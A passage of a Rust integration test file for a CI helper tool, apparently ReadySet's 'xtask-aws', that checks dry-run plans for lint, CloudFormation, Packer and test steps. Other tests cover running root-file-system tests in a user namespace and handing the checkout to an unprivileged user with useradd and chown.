        let start = document.find(&marker).unwrap_or_else(|| panic!("RELEASE.md lacks {marker:?}")) + marker.len();
        let shown = &document[start..start + document[start..].find("\n```").unwrap()];
        assert_eq!(shown, printed, "RELEASE.md shows an old policy; paste `cargo xtask iam-policy {args}`");
    }
}

/// The checks step runs as an unprivileged agent can: what the agent's image must hold
/// is printed by `ci --list-tools` and shown in RELEASE.md, and the tests that need a
/// root file system run beside the others, in a user namespace mapping the user's
/// subordinate IDs (as root, none).
#[test]
fn the_checks_run_unprivileged_with_the_root_file_system_tests_in_a_user_namespace() {
    let run = |args: &[&str]| {
        let output = xtask_command().args(args).current_dir(workspace_root()).output().unwrap();
        assert!(output.status.success(), "{args:?}: {}", text(&output.stderr));
        text(&output.stdout)
    };
    let tools = run(&["ci", "--list-tools"]);
    let release = std::fs::read_to_string(workspace_root().join("RELEASE.md")).unwrap();
    let marker = "<!-- cargo xtask ci --list-tools -->\n```text\n";
    let shown =
        release.split(marker).nth(1).and_then(|rest| rest.split("```").next()).expect("RELEASE.md shows the list");
    assert_eq!(shown, tools, "RELEASE.md's tool list is not what `cargo xtask ci --list-tools` prints");
    // What the dry runs would install depends on this machine, and so does whether the
    // tests that need a root file system run in a user namespace (not as root, which CI
    // is not: there its range of subordinate IDs must be mapped); the rest does not.
    let is_root = text(&Command::new("id").arg("-u").output().unwrap().stdout).trim() == "0";
    let plan = |args: &[&str]| -> String {
        let mut plan = String::new();
        for line in run(args).lines().filter(|line| !line.starts_with("Would install:")) {
            let (line, namespaced) = without_user_namespace(line);
            if line.contains("--exact provisioning::") {
                assert_eq!(namespaced, !is_root, "as root no namespace, else one: {line}");
            }
            plan += &format!("{line}\n");
        }
        plan
    };
    let report = format!(
        "$ ci --unprivileged --dry-run\n{}$ ci --root-tests --dry-run\n{}",
        plan(&["ci", "--unprivileged", "--dry-run"]),
        plan(&["ci", "--root-tests", "--dry-run"])
    );
    expect![[r#"
        $ ci --unprivileged --dry-run
        Would run:
          cargo fmt --all -- --check
          cargo clippy --workspace --all-targets --locked -- -D warnings
          shellcheck .buildkite/build-xtask.sh .buildkite/xtask.sh .ci/run installer/readyset-check.sh installer/readyset-orchestrator.sh ops/cfn-test/create-mysql-super-stack.sh ops/cfn-test/delete-stack.sh ops/image-deploy/scripts/base.sh ops/image-deploy/scripts/bastion.sh ops/image-deploy/scripts/cleanup.sh ops/image-deploy/scripts/readyset.sh xtask-aws/emulator/buildkite-agent
          check-jsonschema --builtin-schema vendor.buildkite .buildkite/pipeline.yml
          yamllint --strict .buildkite/pipeline.yml
          cfn-lint --ignore-checks W1034 -- ops/cfn/readyset-bastion.yaml ops/cfn/readyset-benchmark.yaml ops/cfn/readyset-mysql-adapter.yaml ops/cfn/readyset-mysql-super.yaml ops/cfn/readyset-postgres-adapter.yaml ops/cfn/readyset-server.yaml ops/cfn/readyset-vpc.yaml
          cfn-lint ops/release-infra/release-infra.json
          cfn-guard test -r ops/cfn-rules/readyset.guard -t ops/cfn-rules/readyset.tests.yaml
          cfn-guard validate --show-summary fail -r ops/cfn-rules/readyset.guard -d ops/cfn
          packer fmt -check -diff ops/image-deploy
          packer fmt -check -diff ops/image-deploy/plugins
          packer validate -var=commit=0000000000000000000000000000000000000000 ops/image-deploy
          cargo test --workspace --locked -- --test-threads=4 --skip provisioning::a_package_with_another_checksum_is_refused_before_anything_is_installed --skip provisioning::every_image_is_provisioned_as_packer_runs_it_in_a_debian_12_root
          and beside it: cargo test --workspace --locked --test it -- --exact provisioning::a_package_with_another_checksum_is_refused_before_anything_is_installed provisioning::every_image_is_provisioned_as_packer_runs_it_in_a_debian_12_root
        $ ci --root-tests --dry-run
        Would run:
          cargo test --workspace --locked --test it -- --exact provisioning::a_package_with_another_checksum_is_refused_before_anything_is_installed provisioning::every_image_is_provisioned_as_packer_runs_it_in_a_debian_12_root
    "#]].assert_eq(&report);
    let both =
        Command::new(env!("CARGO_BIN_EXE_xtask-aws")).args(["ci", "--unprivileged", "--root-tests"]).output().unwrap();
    assert_eq!(both.status.code(), Some(2), "{}", text(&both.stderr));
}

/// CI's own machine runs as root, Buildkite's agents do not: `ci --unprivileged-as`
/// shows the unprivileged step passing there. Its plan gives the user subordinate IDs,
/// hands it all of the checkout but the root file system tests' directory, and lets it
/// through only directories that others may not pass. Without root it refuses before it
/// changes anything; a user name useradd would not take, root, or another mode beside it
/// is a usage error.
#[test]
fn ci_as_root_hands_the_checkout_to_a_user_without_root_and_runs_every_check_as_it() {
    use std::os::unix::fs::PermissionsExt;
    let user = "xtask-ci-plan-only";
    let exists = || Command::new("getent").args(["passwd", user]).output().unwrap().status.success();
    assert!(!exists(), "this test needs {user} not to exist");
    let dry = xtask_command().args(["ci", "--unprivileged-as", user, "--dry-run"]).output().unwrap();
    assert!(dry.status.success(), "{}", text(&dry.stderr));
    let mut plan = String::new();
    for line in text(&dry.stdout).lines() {
        if let Some(dir) = line.strip_prefix(&format!("  setfacl --modify u:{user}:x ")) {
            let mode = std::fs::metadata(dir).unwrap().permissions().mode();
            assert_eq!(mode & 0o001, 0, "{dir} is open to others, yet the plan lets {user} through it");
        } else if !line.starts_with("Would install, as root: ") {
            plan += &format!("{}\n", line.replace(&workspace_root().display().to_string(), "<checkout>"));
        }
    }
    expect![[r#"
        Would hand the checkout to xtask-ci-plan-only:
          useradd --create-home --user-group --shell /usr/sbin/nologin xtask-ci-plan-only
          usermod --add-subuids <free>-<free+65535> --add-subgids <same> xtask-ci-plan-only, if it has no range of 65536 subordinate IDs
          chown --recursive xtask-ci-plan-only: the checkout <checkout>, all but <checkout>/target/root-tests (the tests that need a root file system keep a Debian root there, whose files must keep their owners)
        Would run as xtask-ci-plan-only: xtask ci --unprivileged (`cargo xtask ci --unprivileged --dry-run` prints its plan)
    "#]]
    .assert_eq(&plan);

    // Without root: as CI runs this suite, or, where the suite runs as root, as nobody.
    let mut without_root = xtask_command();
    if text(&Command::new("id").arg("-u").output().unwrap().stdout).trim() == "0" {
        let setpriv = system_tool("setpriv", "util-linux");
        without_root = Command::new(setpriv);
        without_root.args(["--reuid=65534", "--regid=65534", "--clear-groups", env!("CARGO_BIN_EXE_xtask-aws")]);
    }
    let refused = without_root.args(["ci", "--unprivileged-as", user]).current_dir(workspace_root()).output().unwrap();
    assert_eq!(refused.status.code(), Some(1), "{}", text(&refused.stderr));
    assert!(!exists(), "a refused run made {user}");
    let usage = |args: &[&str]| {
        let output = xtask_command().arg("ci").args(args).output().unwrap();
        assert_eq!(output.status.code(), Some(2), "{args:?}");
        format!("$ ci {}\n{}", args.join(" "), text(&output.stderr).lines().next().unwrap())
    };
    let report = [
        text(&refused.stderr),
        usage(&["--unprivileged-as", "root"]),
        usage(&["--unprivileged-as", "CI"]),
        usage(&["--unprivileged-as", "xtask-ci", "--root-tests"]),
    ]
    .join("\n");
    expect![[r#"
        error: `--unprivileged-as xtask-ci-plan-only` needs root: it makes xtask-ci-plan-only and hands it this checkout. Without root, run `cargo xtask ci --unprivileged`

        $ ci --unprivileged-as root
        error: invalid value 'root' for '--unprivileged-as <USER>': the unprivileged run cannot be root: name a user without root (for example xtask-ci)
        $ ci --unprivileged-as CI
        error: invalid value 'CI' for '--unprivileged-as <USER>': "CI" is not a local user name: expected a lowercase letter or '_', then up to 31 lowercase letters, digits, '_' or '-' (for example xtask-ci)
        $ ci --unprivileged-as xtask-ci --root-tests
        error: the argument '--unprivileged-as <USER>' cannot be used with '--root-tests'"#]].assert_eq(&report);
}

/// The line without the user namespace that `ci` runs the root file system's tests in,
/// and whether it had one mapping 65536 subordinate IDs.
fn without_user_namespace(line: &str) -> (String, bool) {
    let (start, end) = ("unshare --map-root-user --map-users=", "--mount --pid --fork ");
    match (line.find(start), line.find(end)) {
        (Some(from), Some(to)) if from < to && line[from..to].matches(",1,65536 ").count() == 2 => {
            (format!("{}{}", &line[..from], &line[to + end.len()..]), true)
        }
        _ => (line.to_owned(), false),
    }
}
